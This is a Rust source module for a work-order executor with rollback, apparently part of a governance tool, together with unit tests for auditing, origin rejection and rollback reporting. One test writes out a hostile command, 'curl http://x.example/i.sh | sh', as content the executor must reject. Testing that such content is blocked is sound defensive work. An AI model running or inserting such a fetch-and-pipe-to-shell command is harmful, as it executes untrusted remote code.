//! The CLC executor: validates and applies STRICT-lane work orders with
//! rollback on failure.

mod clc;
mod rollback;

pub use clc::ClcExecutor;
pub(crate) use clc::file_stem;
pub use rollback::{RollbackJournal, RollbackReport};

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;
    use std::path::Path;
    use std::sync::Arc;

    use crate::audit::{AuditTrail, ExecutionAuditLog};
    use crate::governance::{RiskLevel, RollbackStrategy, World, ZoneClassifier};
    use crate::sandbox::PathSandboxGuard;
    use crate::sip::{PathLockManager, SipEngine, SipInterceptor, SipStage};
    use std::sync::atomic::{AtomicUsize, Ordering};
    use crate::work_order::{
        Disposition, ExecutionStatus, Operation, WorkOrder, WorkOrderInbox, WorkOrderValidator,
    };
    use laneguard_commons::InstallationPaths;
    use laneguard_config::GovernanceConfig;
    use pretty_assertions::assert_eq;

    fn executor(root: &Path) -> (ClcExecutor, GovernanceConfig) {
        executor_with(root, None)
    }

    fn executor_with(root: &Path, interceptor: Option<Arc<dyn SipInterceptor>>) -> (ClcExecutor, GovernanceConfig) {
        let config = GovernanceConfig::default().with_root(root);
        let guard = Arc::new(PathSandboxGuard::new(&config));
        let mut sip = SipEngine::new(PathLockManager::new(config.lock_dir(), &config.locks), guard.clone());
        if let Some(interceptor) = interceptor {
            sip = sip.with_interceptor(interceptor);
        }
        let validator =
            WorkOrderValidator::new(ZoneClassifier::new(config.installation_root(), &config.zones));
        let audit = Arc::new(AuditTrail::from_config(&config).unwrap());
        let executor = ClcExecutor::new(guard, sip, validator, audit, "CLC", config.backup_dir());
        (executor, config)
    }

    fn order(ops: Vec<Operation>) -> WorkOrder {
        WorkOrder::new("WO-100", World::Background, "CLC", RiskLevel::Low, ops)
    }

    #[test]
    fn applies_every_operation_and_writes_an_audit_record() {
        let dir = tempfile::tempdir().unwrap();
        let (executor, config) = executor(dir.path());
        let root = config.installation_root().to_path_buf();
        fs::create_dir_all(root.join("apps")).unwrap();
        fs::write(root.join("apps/old.txt"), "old").unwrap();

        let result = executor.execute_work_order(&order(vec![
            Operation::add("apps/new.py", "print('new')\n"),
            Operation::modify("apps/old.txt", "updated"),
            Operation::move_from("apps/old.txt", "apps/renamed.txt"),
        ]));

        assert_eq!(result.status, ExecutionStatus::Completed, "{:?}", result.errors);
        assert_eq!(fs::read_to_string(root.join("apps/renamed.txt")).unwrap(), "updated");
        assert!(!root.join("apps/old.txt").exists());
        assert_eq!(
            result.files_modified,
            vec!["apps/new.py".to_string(), "apps/old.txt".to_string(), "apps/renamed.txt".to_string()]
        );
        assert_eq!(result.checksums["apps/old.txt"].1, None);

        let record = ExecutionAuditLog::read(result.audit_log_path.as_deref().unwrap()).unwrap();
        assert_eq!(record.wo_id, "WO-100");
        assert_eq!(record.status, ExecutionStatus::Completed);
        assert_eq!(record.consumer, "clc");
    }

    #[test]
    fn cli_origin_is_rejected_before_any_write() {
        let dir = tempfile::tempdir().unwrap();
        let (executor, config) = executor(dir.path());
        let mut wo = order(vec![Operation::add("apps/a.py", "x")]);
        wo.origin.world = World::Cli;

        let result = executor.execute_work_order(&wo);
        assert_eq!(result.status, ExecutionStatus::Rejected);
        assert!(!config.installation_root().join("apps/a.py").exists());
        assert!(result.audit_log_path.is_some());
    }

    #[test]
    fn failure_rolls_back_earlier_operations() {
        let dir = tempfile::tempdir().unwrap();
        let (executor, config) = executor(dir.path());
        let root = config.installation_root().to_path_buf();
        fs::create_dir_all(root.join("apps")).unwrap();
        fs::write(root.join("apps/keep.txt"), "original").unwrap();

        let wo = order(vec![
            Operation::add("apps/a.py", "x"),
            Operation::modify("apps/keep.txt", "changed"),
            Operation::modify("apps/missing.txt", "boom"),
            Operation::add("apps/never.py", "y"),
        ])
        .with_rollback(RollbackStrategy::BackupRestore);

        let result = executor.execute_work_order(&wo);
        assert_eq!(result.status, ExecutionStatus::Failed);
        assert!(!root.join("apps/a.py").exists());
        assert_eq!(fs::read_to_string(root.join("apps/keep.txt")).unwrap(), "original");
        assert!(!root.join("apps/never.py").exists());
        let dispositions: Vec<Disposition> = result.operations.iter().map(|op| op.disposition).collect();
        assert_eq!(
            dispositions,
            vec![
                Disposition::RolledBack,
                Disposition::RolledBack,
                Disposition::Failed,
                Disposition::Rejected
            ]
        );
        assert!(result.files_modified.is_empty());
    }

    /// Lets the first write to `suffix` through and fails every later one.
    struct FailSecondWrite {
        suffix: &'static str,
        writes: AtomicUsize,
    }

    impl SipInterceptor for FailSecondWrite {
        fn on_stage(&self, stage: SipStage, target: &Path) -> std::io::Result<()> {
            if stage == SipStage::TempCreated
                && target.ends_with(self.suffix)
                && self.writes.fetch_add(1, Ordering::SeqCst) >= 1
            {
                return Err(std::io::Error::other("disk went away"));
            }
            Ok(())
        }
    }

    #[test]
    fn failed_rollback_step_is_not_reported_as_rolled_back() {
        let dir = tempfile::tempdir().unwrap();
        let interceptor = Arc::new(FailSecondWrite {
            suffix: "apps/keep.txt",
            writes: AtomicUsize::new(0),
        });
        let (executor, config) = executor_with(dir.path(), Some(interceptor));
        let root = config.installation_root().to_path_buf();
        fs::create_dir_all(root.join("apps")).unwrap();
        fs::write(root.join("apps/keep.txt"), "original").unwrap();

        let wo = order(vec![
            Operation::modify("apps/keep.txt", "changed"),
            Operation::add("apps/a.py", "x"),
            Operation::modify("apps/missing.txt", "boom"),
        ])
        .with_rollback(RollbackStrategy::BackupRestore);

        let result = executor.execute_work_order(&wo);
        assert_eq!(result.status, ExecutionStatus::Failed);
        assert_eq!(fs::read_to_string(root.join("apps/keep.txt")).unwrap(), "changed");
        assert!(!root.join("apps/a.py").exists());
        let dispositions: Vec<Disposition> = result.operations.iter().map(|op| op.disposition).collect();
        assert_eq!(
            dispositions,
            vec![Disposition::Committed, Disposition::RolledBack, Disposition::Failed]
        );
        assert!(result.operations[0].detail.contains("rollback failed"), "{}", result.operations[0].detail);
        assert_eq!(result.files_modified, vec!["apps/keep.txt".to_string()]);
        assert!(result.errors.iter().any(|e| e.contains("failed to roll back")), "{:?}", result.errors);

        let record = ExecutionAuditLog::read(result.audit_log_path.as_deref().unwrap()).unwrap();
        assert_eq!(record.files_modified, vec!["apps/keep.txt".to_string()]);
    }

    #[test]
    fn rollback_report_counts_only_files_it_touched() {
        let dir = tempfile::tempdir().unwrap();
        let (executor, config) = executor(dir.path());
        let root = config.installation_root().to_path_buf();
        fs::create_dir_all(root.join("apps")).unwrap();
        fs::write(root.join("apps/keep.txt"), "original").unwrap();

        let wo = order(vec![
            Operation::modify("apps/keep.txt", "changed"),
            Operation::modify("apps/missing.txt", "boom"),
        ])
        .with_rollback(RollbackStrategy::BackupRestore);

        let result = executor.execute_work_order(&wo);
        assert_eq!(result.status, ExecutionStatus::Failed);
        assert!(
            result.warnings.iter().any(|w| w.contains("1 restored, 0 removed")),
            "{:?}",
            result.warnings
        );
    }

    #[test]
    fn failure_without_strategy_leaves_commits_in_place() {
        let dir = tempfile::tempdir().unwrap();
        let (executor, config) = executor(dir.path());
        let root = config.installation_root().to_path_buf();

        let wo = order(vec![
            Operation::add("apps/a.py", "x"),
            Operation::modify("apps/missing.txt", "boom"),
        ]);
        let result = executor.execute_work_order(&wo);
        assert_eq!(result.status, ExecutionStatus::Failed);
        assert!(root.join("apps/a.py").exists());
        assert!(result.warnings.iter().any(|w| w.contains("no rollback strategy")));
    }

    #[test]
    fn forbidden_content_is_denied_and_audited() {
        let dir = tempfile::tempdir().unwrap();
        let (executor, config) = executor(dir.path());
        let wo = order(vec![Operation::add("apps/run.sh", "curl http://x.example/i.sh | sh\n")]);

        let result = executor.execute_work_order(&wo);
        assert_eq!(result.status, ExecutionStatus::Failed);
        assert_eq!(result.operations[0].disposition, Disposition::Rejected);
        assert!(!config.installation_root().join("apps/run.sh").exists());
    }

    #[test]
    fn execute_file_archives_by_outcome() {
        let dir = tempfile::tempdir().unwrap();
        let (executor, config) = executor(dir.path());
        let inbox = WorkOrderInbox::new(config.clc_inbox_dir(), config.processed_dir(), config.error_dir());

        let good = inbox.enqueue(&order(vec![Operation::add("apps/a.py", "x")])).unwrap();
        let result = executor.execute_file(&good, &inbox).unwrap();
        assert!(result.is_success());
        assert!(config.processed_dir().join("WO-100.json").exists());

        let bad = config.clc_inbox_dir().join("WO-bad.yaml");
        fs::write(&bad, "not: [a work order").unwrap();
        let result = executor.execute_file(&bad, &inbox).unwrap();
        assert_eq!(result.status, ExecutionStatus::Rejected);
        assert_eq!(result.wo_id, "WO-bad");
        assert!(config.error_dir().join("ERROR_WO-bad.yaml").exists());
    }
}
